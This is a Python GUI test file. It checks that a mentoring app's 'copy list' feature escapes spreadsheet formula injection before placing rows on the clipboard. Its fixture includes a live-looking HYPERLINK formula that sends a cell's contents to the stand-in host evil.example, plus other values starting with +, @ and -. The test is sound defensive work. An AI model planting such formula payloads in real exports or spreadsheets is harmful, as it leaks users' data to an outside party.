"""Copy list of mutual follow-ups: what lands on the clipboard is safe to paste into a spreadsheet."""

from __future__ import annotations

from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from mentordesk.services.feedback import FollowUps
from mentordesk.services.feedback.feedback_data import Contact, MutualFollowUp
from mentordesk.services.spreadsheets import is_formula_like
from mentordesk.ui.flash.feedback_followups import FollowUpsView

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


def test_copy_list_puts_no_live_formula_on_the_clipboard(qtbot: QtBot) -> None:
    view = FollowUpsView()
    qtbot.addWidget(view)
    view.set_follow_ups(FollowUps((
        MutualFollowUp(Contact(1, HYPERLINK, "+1@evil.example", ""), Contact(2, "@Mentor Sum", None, ""), 1, 2),
        MutualFollowUp(Contact(3, "Zoë Šimůnek", "zoe@example.org", ""),
                       Contact(4, "-Amara\tOkafor", "amara@example.org", ""), 1, 3),
    ), 0))
    view.show()
    qtbot.waitExposed(view)
    assert view.copy_button.isEnabled()

    QApplication.clipboard().clear()
    view.copy_button.click()
    qtbot.waitUntil(lambda: QApplication.clipboard().text() != "", timeout=20_000)

    lines = QApplication.clipboard().text().splitlines()
    assert lines[0] == "Mentee\tMentee e-mail\tMentor\tMentor e-mail\tRound"
    rows = [line.split("\t") for line in lines[1:]]
    assert all(len(row) == 5 for row in rows)  # a tab inside a name does not add a cell
    assert rows[0] == ["'" + HYPERLINK, "'+1@evil.example", "'@Mentor Sum", "", "2"]
    assert rows[1] == ["Zoë Šimůnek", "zoe@example.org", "'-Amara Okafor", "amara@example.org", "3"]
    assert not any(is_formula_like(cell) for row in rows for cell in row)
